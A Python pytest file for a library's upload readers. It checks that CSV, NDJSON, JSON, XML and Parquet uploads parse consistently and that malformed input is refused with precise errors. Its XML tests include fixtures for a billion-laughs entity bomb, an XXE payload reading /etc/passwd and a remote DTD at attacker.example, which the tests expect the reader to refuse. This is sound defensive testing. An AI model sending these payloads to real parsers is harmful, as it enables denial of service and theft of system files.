"""Readers: every format gives the same rows; bad input is refused saying what and where."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import polars as pl
import pytest

from ingest_support import body_of, profile, roster
from pavilion.errors import InvalidRequest, ProviderBadResponse
from pavilion.ingest.errors import MalformedUpload
from pavilion.ingest.formats import (
    ROW,
    Format,
    UploadType,
    first_invalid_utf8,
    parse_lookup_answer,
    read_upload,
    upload_type,
)
from pavilion.ingest.schema import RecordSchema, validate_profile

SCHEMA: RecordSchema = validate_profile(profile()).record_schema
SMALL = RecordSchema.model_validate(
    {
        "name": "small",
        "fields": [
            {"name": "id", "required": True},
            {"name": "age", "type": "integer"},
            {"name": "tags", "type": "list"},
            {"name": "ok", "type": "boolean"},
        ],
    }
)


def _read(tmp: Path, data: bytes, fmt: Format, schema: RecordSchema = SMALL, **kw: Any) -> Any:
    path = tmp / f"upload.{fmt.value}"
    path.write_bytes(data)
    return read_upload(path, UploadType(fmt, **kw), schema)


def _refused(tmp: Path, data: bytes, fmt: Format, **kw: Any) -> MalformedUpload:
    with pytest.raises(MalformedUpload) as caught:
        _read(tmp, data, fmt, **kw)
    return caught.value


@pytest.mark.parametrize("fmt", ["csv", "ndjson", "json", "xml", "parquet"])
def test_every_format_reads_the_same_roster(tmp_path: Path, fmt: str) -> None:
    records = roster(25)
    batch = _read(tmp_path, body_of(fmt, records, tmp_path), Format(fmt), SCHEMA)
    assert batch.rows == 25
    assert batch.type_errors == []
    frame = batch.frame
    assert frame[ROW].to_list() == list(range(1, 26))
    assert frame["student_id"].to_list() == [r.student_id for r in records]
    assert frame["given_name"].to_list() == [r.given_name for r in records]
    births = frame["birth_date"].cast(pl.String).to_list()
    assert births == [r.birth_date.isoformat() for r in records]


def test_upload_types() -> None:
    assert upload_type("text/csv; charset=Windows-1252") == UploadType(Format.CSV, "cp1252")
    assert upload_type("application/x-ndjson").format is Format.NDJSON
    assert upload_type(None, "roster.parquet").format is Format.PARQUET
    assert upload_type("application/octet-stream", "a.xml").format is Format.XML
    with pytest.raises(InvalidRequest, match="unsupported content type") as caught:
        upload_type("image/png")
    assert caught.value.field == "content-type"
    with pytest.raises(InvalidRequest, match="RFC 8259"):
        upload_type("application/json; charset=latin-1")
    with pytest.raises(InvalidRequest, match="unknown charset"):
        upload_type("text/csv; charset=klingon")
    with pytest.raises(InvalidRequest, match="cannot tell"):
        upload_type(None, "roster.txt")
    assert upload_type("application/vnd.apache.parquet; charset=x-unknown").charset == "utf-8"


def test_empty_uploads(tmp_path: Path) -> None:
    for fmt in Format:
        assert "empty" in _refused(tmp_path, b"", fmt).detail
    assert "no records" in _refused(tmp_path, b"id,age\n", Format.CSV).detail
    assert "no records" in _refused(tmp_path, b"\n\n", Format.NDJSON).detail
    assert "no records" in _refused(tmp_path, b"[]", Format.JSON).detail
    assert "holds no records" in _refused(tmp_path, b"<roster/>", Format.XML).detail


def test_csv_ragged_rows_are_named_by_row_and_line(tmp_path: Path) -> None:
    data = b"id,age,tags,ok\nA,1,x,true\nB,2\nC,3,x,true,extra\n\nD,4,x,false\n"
    error = _refused(tmp_path, data, Format.CSV)
    assert "3 CSV row(s) do not have 4 fields" in error.detail
    assert [(e["row"], e["line"]) for e in error.errors] == [(2, 3), (3, 4), (4, 5)]
    assert error.errors[0]["message"] == "row 2 (line 3) has 2 fields, the header has 4"
    assert error.errors[2]["message"] == "row 4 (line 5) is blank"
    assert error.extra["ragged_rows"] == 3


def test_csv_quoted_line_breaks_and_commas_are_fields(tmp_path: Path) -> None:
    data = b'id,age,tags,ok\n"A\nB",1,"x,y",true\n"C ""q""",2,,false\n'
    batch = _read(tmp_path, data, Format.CSV)
    assert batch.frame["id"].to_list() == ["A\nB", 'C "q"']
    ragged = b'id,age,tags,ok\n"A\nB",1\n'
    assert _refused(tmp_path, ragged, Format.CSV).errors[0]["row"] == 1


def test_csv_header_problems(tmp_path: Path) -> None:
    assert "more than once" in _refused(tmp_path, b"id,id\n1,2\n", Format.CSV).detail
    assert "empty column name" in _refused(tmp_path, b"id,,age\n1,2,3\n", Format.CSV).detail
    assert "no header" in _refused(tmp_path, b"\n1,2\n", Format.CSV).detail
    bom = _read(tmp_path, b"\xef\xbb\xbfid,age\nA,1\n", Format.CSV)
    assert bom.columns == ["id", "age"]


def test_wrong_encodings_name_the_byte_and_line(tmp_path: Path) -> None:
    latin = "id,age\nJosé,1\nZoë,2\n".encode("latin-1")
    error = _refused(tmp_path, latin, Format.CSV)
    assert "not valid UTF-8 at byte 10 (line 2)" in error.detail
    assert error.extra["line"] == 2
    declared = _read(tmp_path, latin, Format.CSV, charset="latin-1")
    assert declared.frame["id"].to_list() == ["José", "Zoë"]
    header = _refused(tmp_path, "naïve,b\n1,2\n".encode("latin-1"), Format.CSV)
    assert "CSV header is not valid UTF-8" in header.detail
    truncated = _refused(tmp_path, b"id\n\xe2\x82", Format.CSV)
    assert "not valid UTF-8" in truncated.detail
    lone_surrogate = b"\xff\xfe" + "id\n".encode("utf-16-le") + b"\x00\xdcx\x00"
    with pytest.raises(MalformedUpload, match="not valid utf-16 at byte"):
        _read(tmp_path, lone_surrogate, Format.CSV, charset="utf-16")
    with pytest.raises(MalformedUpload, match="ends inside a utf-16 character"):
        _read(tmp_path, b"\xff\xfei\x00d\x00\n\x00\x00", Format.CSV, charset="utf-16")
    utf16 = _read(tmp_path, "id,age\nÅsa,1\n".encode("utf-16"), Format.CSV, charset="utf-16")
    assert utf16.frame["id"].to_list() == ["Åsa"]
    assert first_invalid_utf8(tmp_path / "upload.csv") == (0, 1)  # the UTF-16 byte order mark
    (tmp_path / "fine.csv").write_bytes("id\nÅsa\n".encode())
    assert first_invalid_utf8(tmp_path / "fine.csv") is None


def test_ndjson_types_syntax_and_undeclared_keys(tmp_path: Path) -> None:
    data = (
        b'{"id": "A", "age": 3, "tags": ["x"], "ok": true}\n'
        b"\n"
        b'{"id": 5, "age": "old", "tags": "x", "ok": "yes", "nickname": "Bo"}\n'
        b'{"id": "C", "age": null, "tags": [], "ok": false, "nickname": {"n": 1}}\n'
    )
    batch = _read(tmp_path, data, Format.NDJSON)
    assert batch.rows == 3
    assert batch.frame[ROW].to_list() == [1, 2, 3]
    assert batch.frame["nickname"].to_list() == [None, "Bo", '{"n":1}']
    found = {(e["row"], e["field"]) for e in batch.type_errors}
    assert found == {(2, "id"), (2, "age"), (2, "tags"), (2, "ok")}
    first = next(e for e in batch.type_errors if e["field"] == "id")
    assert first["message"] == "row 2 (line 3): expected a string, got a number"
    assert batch.frame.row(1, named=True)["id"] is None
    broken = _refused(tmp_path, b'{"id": "A"}\n{"id": \n[1]\n', Format.NDJSON)
    assert [e["row"] for e in broken.errors] == [2, 3]
    assert "expected a JSON object" in broken.errors[1]["message"]
    bom = _read(tmp_path, b'\xef\xbb\xbf{"id": "A"}\n', Format.NDJSON)
    assert bom.frame["id"].to_list() == ["A"]


def test_json_arrays(tmp_path: Path) -> None:
    data = b'[\n  {"id": "A",\n   "age": 1},\n  {"id": "B", "tags": ["p", "q"]}\n]'
    batch = _read(tmp_path, data, Format.JSON)
    assert batch.format is Format.JSON
    assert batch.frame["tags"].to_list() == [None, ["p", "q"]]
    assert "trailing comma" in _refused(tmp_path, b'[{"id": "A",}]', Format.JSON).detail
    assert "JSON array" in _refused(tmp_path, b'{"id": "A"}', Format.JSON).detail
    typed = _read(tmp_path, b'[{"id": 1}]', Format.JSON)
    assert typed.type_errors[0]["message"] == "row 1: expected a string, got a number"
    not_objects = _refused(tmp_path, b"[1, 2]", Format.JSON)
    assert not_objects.errors[0]["message"].startswith("row 1: expected a JSON object")


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<roster><r><id>&lol9;</id></r></roster>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<roster><r><id>&xxe;</id></r></roster>
"""
REMOTE_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE roster SYSTEM "http://attacker.example/evil.dtd">
<roster><r><id>A</id></r></roster>
"""


@pytest.mark.parametrize("document", [BOMB, XXE, REMOTE_DTD, BOMB.decode().encode("utf-16")])
def test_xml_with_a_dtd_is_refused_before_parsing(tmp_path: Path, document: bytes) -> None:
    error = _refused(tmp_path, document, Format.XML)
    assert "document type declaration" in error.detail
    assert error.extra["reason"] == "xml-dtd"


def test_xml_entities_are_never_resolved(tmp_path: Path) -> None:
    error = _refused(tmp_path, b"<roster><r><id>&lol9;</id></r></roster>", Format.XML)
    assert error.detail == "not well-formed XML at line 1: Entity 'lol9' not defined"
    long_prolog = b"<!-- " + b"x" * (1 << 20) + b" -->"
    assert "prolog" in _refused(tmp_path, long_prolog, Format.XML).detail


def test_xml_records_fields_attributes_and_lists(tmp_path: Path) -> None:
    data = (
        b'<?xml version="1.0"?>\n<x:roster xmlns:x="urn:x">\n'
        b'<x:r id="A" age="3"><x:tags><t>p</t><t>q</t></x:tags><ok>true</ok></x:r>\n'
        b"<x:r><id>B</id><tags>a;b</tags><note><b>bold</b> text</note></x:r>\n"
        b"<x:r><id><n>C</n></id><age>1</age><age>2</age></x:r>\n"
        b"</x:roster>\n"
    )
    batch = _read(tmp_path, data, Format.XML)
    frame = batch.frame
    assert frame["id"].to_list() == ["A", "B", None]
    assert frame["tags"].to_list() == [["p", "q"], ["a", "b"], None]
    assert frame["note"].to_list() == [None, "bold text", None]
    assert {(e["row"], e["field"], e["code"]) for e in batch.type_errors} == {
        (3, "id", "type"),
        (3, "age", "type"),
    }
    stray = b"<roster><r><id>A</id></r><other/><r><id>B</id></r></roster>"
    error = _refused(tmp_path, stray, Format.XML)
    assert error.detail == "unexpected element <other> at line 1 (records are <r> elements)"
    trailing = b"<roster><r><id>A</id></r><other/></roster>"
    assert "<other>" in _refused(tmp_path, trailing, Format.XML).detail
    broken = _refused(tmp_path, b"<roster><r><id>A</r></roster>", Format.XML)
    assert broken.detail.startswith("not well-formed XML at line 1")
    assert "holds no records" in _refused(tmp_path, b"<roster/>", Format.XML).detail


def test_xml_record_element_from_the_schema(tmp_path: Path) -> None:
    schema = RecordSchema.model_validate({**SMALL.model_dump(), "record_element": "student"})
    data = b"<roster><student><id>A</id></student><student><id>B</id></student></roster>"
    assert _read(tmp_path, data, Format.XML, schema).frame["id"].to_list() == ["A", "B"]
    nested = b"<roster><group><student><id>A</id></student></group></roster>"
    error = _refused(tmp_path, nested, Format.XML, schema=schema)
    assert error.detail == (
        "XML records must be children of the root: <student> at line 1 is nested deeper"
    )
    assert (
        "no <student> records"
        in _refused(tmp_path, b"<roster></roster>", Format.XML, schema=schema).detail
    )
    lone = _refused(tmp_path, b"<student/>", Format.XML, schema=schema)
    assert lone.detail.endswith("<student> at line 1 is nested deeper")  # the root is no record


def test_parquet(tmp_path: Path) -> None:
    path = tmp_path / "p.parquet"
    pl.DataFrame({"id": ["A"], "age": [3]}).write_parquet(path)
    batch = _read(tmp_path, path.read_bytes(), Format.PARQUET)
    assert batch.frame.schema["age"] == pl.Int64
    assert "not a readable Parquet file" in _refused(tmp_path, b"PAR1 nope", Format.PARQUET).detail


def test_lookup_answers_in_json_and_xml() -> None:
    schema = {
        "properties": {
            "age": {"type": "integer"},
            "score": {"anyOf": [{"type": "number"}, {"type": "null"}]},
            "ok": {"type": "boolean"},
        }
    }
    xml = (
        b'<lookup found="true" as_of="2026-01-01T00:00:00Z"><record>'
        b"<id>A</id><age>42</age><score>1.5</score><ok>true</ok><bad>x</bad>"
        b"<clubs><c>Chess</c></clubs></record></lookup>"
    )
    answer = parse_lookup_answer(xml, "application/xml; charset=utf-8", schema)
    assert answer == {
        "found": True,
        "as_of": "2026-01-01T00:00:00Z",
        "record": {"id": "A", "age": 42, "score": 1.5, "ok": True, "bad": "x", "clubs": ["Chess"]},
    }
    assert parse_lookup_answer(b'<lookup found="false"/>', "text/xml") == {"found": False}
    assert parse_lookup_answer(b'{"found": false}', None) == {"found": False}
    wrong_type = parse_lookup_answer(
        b'<lookup found="true"><record><age>old</age></record></lookup>', "text/xml", schema
    )
    assert wrong_type["record"]["age"] == "old"  # the record schema check then names the field
    for bad, message in [
        (b"<lookup found='maybe'/>", "found="),
        (b"<lookup", "not well-formed"),
        (BOMB, "DTD"),
        (XXE, "DTD"),
    ]:
        with pytest.raises(ProviderBadResponse, match=message):
            parse_lookup_answer(bad, "application/xml")
    with pytest.raises(ProviderBadResponse, match="invalid JSON"):
        parse_lookup_answer(b"{", "application/json")
    with pytest.raises(ProviderBadResponse, match="not a JSON object"):
        parse_lookup_answer(b"[]", "application/json")


def test_reports_are_capped_and_boms_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pavilion.ingest.formats.ndjson.MAX_REPORTED_ERRORS", 2)
    error = _refused(tmp_path, b"{\n{\n{\n{\n", Format.NDJSON)
    assert [e["row"] for e in error.errors] == [1, 2]
    batch = _read(tmp_path, b'\xef\xbb\xbf[{"id": "A", "tags": ["x"]}]', Format.JSON)
    assert batch.frame["id"].to_list() == ["A"]
    answer = parse_lookup_answer(
        b'<lookup found="true"><record><tags>solo</tags><none></none></record></lookup>',
        "application/xml",
        {"properties": {"tags": {"type": "array"}, "none": {"type": "array"}}},
    )
    assert answer["record"] == {"tags": ["solo"], "none": []}
